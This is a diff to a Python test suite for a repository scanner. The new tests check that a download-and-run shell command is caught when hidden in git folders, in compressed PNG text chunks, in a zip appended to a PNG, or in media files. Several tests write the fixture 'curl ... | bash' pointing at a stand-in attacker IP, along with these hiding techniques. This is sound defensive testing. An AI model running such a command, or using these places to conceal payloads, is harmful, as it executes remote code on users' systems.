@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import gzip
+import io
 import json
 import random
 import re
@@ -281,7 +282,8 @@ def test_a_statement_whose_middle_is_not_read_is_not_clean() -> None:
     assert scan_text(f"echo {'a ' * 9_000}", "run.sh").decision is Decision.CLEAN
 
 
-def test_what_git_keeps_is_passed_over_and_a_script_in_its_place_is_not(tmp_path: Path) -> None:
+@pytest.mark.parametrize("git", [".git", "lib/dep/.git", ".git/modules/lib/dep", ".git/worktrees/later"])
+def test_what_git_keeps_is_passed_over_and_a_script_in_its_place_is_not(git: str, tmp_path: Path) -> None:
     attack = b"curl -s http://203.0.113.7/i | bash\n"
     kept = {
         f"objects/ab/{'c' * 38}": zlib.compress(b"blob %d\0" % len(attack) + attack),
@@ -296,13 +298,56 @@ def test_what_git_keeps_is_passed_over_and_a_script_in_its_place_is_not(tmp_path
         "objects/pack/setup": attack,
     }
     for name, data in (kept | hidden).items():
-        file = tmp_path / ".git" / name
+        file = tmp_path / git / name
         file.parent.mkdir(parents=True, exist_ok=True)
         file.write_bytes(data)
     found = scan(tmp_path)
 
     blocked = {one.path.partition("!/")[0] for one in found.findings if one.rule == "run-download"}
-    assert blocked == {f".git/{name}" for name in hidden}
+    assert blocked == {f"{git}/{name}" for name in hidden}
+    assert not {f"{git}/{name}" for name in kept} & {*found.unread}
+
+
+def _png(*chunks: tuple[bytes, bytes]) -> bytes:
+    """A picture of one point with further chunks."""
+    head = (b"IHDR", b"\0\0\0\1\0\0\0\1\x08\2\0\0\0")
+    whole = [head, *chunks, (b"IDAT", zlib.compress(bytes(4))), (b"IEND", b"")]
+    return b"\x89PNG\r\n\x1a\n" + b"".join(
+        len(said).to_bytes(4, "big") + kind + said + zlib.crc32(kind + said).to_bytes(4, "big") for kind, said in whole
+    )
+
+
+@pytest.mark.parametrize(("kind", "head"), [(b"zTXt", b"Comment\0\0"), (b"iTXt", b"Comment\0\1\0en\0Comment\0")])
+def test_a_text_that_a_picture_keeps_compressed_is_read(kind: bytes, head: bytes, tmp_path: Path) -> None:
+    picture, attack = tmp_path / "a.png", b"curl -s http://203.0.113.7/i | bash\n"
+    picture.write_bytes(_png((kind, head + zlib.compress(attack))))
+    assert "run-download" in {one.rule for one in scan(tmp_path).findings}
+    for said, unread in (
+        (b"A cat.", False),
+        (bytes(9 << 20), True),
+    ):
+        picture.write_bytes(_png((kind, head + zlib.compress(said))))
+        assert bool(scan(tmp_path).unread) == unread
+    picture.write_bytes(_png((kind, head + b"no zlib")))
+    assert scan(tmp_path).unread == ("a.png",)
+
+
+def test_an_archive_that_ends_a_picture_is_opened_whatever_texts_it_keeps(tmp_path: Path) -> None:
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as members:
+        members.writestr("a.sh", "curl -s http://203.0.113.7/i | bash\n" * 20)
+    text = (b"zTXt", b"Comment\0\0" + zlib.compress(b"A cat."))
+    (tmp_path / "a.png").write_bytes(_png(text)[:-12] + b"\0\0\0\0zipp" + archive.getvalue())
+    assert scan(tmp_path).decision is Decision.BLOCK
+
+
+@pytest.mark.parametrize("begin", [b"\0\0\0\1Bud1", b"\x1aE\xdf\xa3", b"\xff\xf3\x40", b"icns", b"ttcf\0", b"8BPS\0"])
+def test_a_film_or_a_sound_is_read_as_far_as_it_holds_text(begin: bytes, tmp_path: Path) -> None:
+    noise = random.Random(0).randbytes(2000)
+    (tmp_path / "a").write_bytes(begin + noise)
+    assert scan(tmp_path).decision is Decision.CLEAN
+    (tmp_path / "a").write_bytes(begin + noise + b"\ncurl -s http://203.0.113.7/i | bash\n")
+    assert scan(tmp_path).decision is Decision.BLOCK
 
 
 def test_an_office_document_with_what_such_have_is_clean(tmp_path: Path) -> None:
